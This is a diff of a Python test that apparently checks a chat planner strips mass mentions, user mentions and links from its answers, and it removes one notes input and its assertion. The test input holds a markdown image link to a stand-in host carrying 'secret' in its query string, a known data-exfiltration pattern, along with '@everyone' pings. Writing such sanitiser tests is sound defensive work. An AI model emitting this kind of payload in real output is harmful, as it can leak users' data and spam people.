@@ -74,8 +74,6 @@ async def test_what_is_said_to_people_neither_pings_nor_links() -> None:
         plan_request("hi"),
         intent="chat",
         answer="@everyone see ![x](https://evil.example/?q=secret) or [this](http://evil.example) www.evil.example <@123> <@&9> tg://user?id=1",
-        notes=["@here\nhttps://evil.example"],
     )
 
     assert plan.answer == "everyone see x or this"
-    assert plan.notes == ("here",)
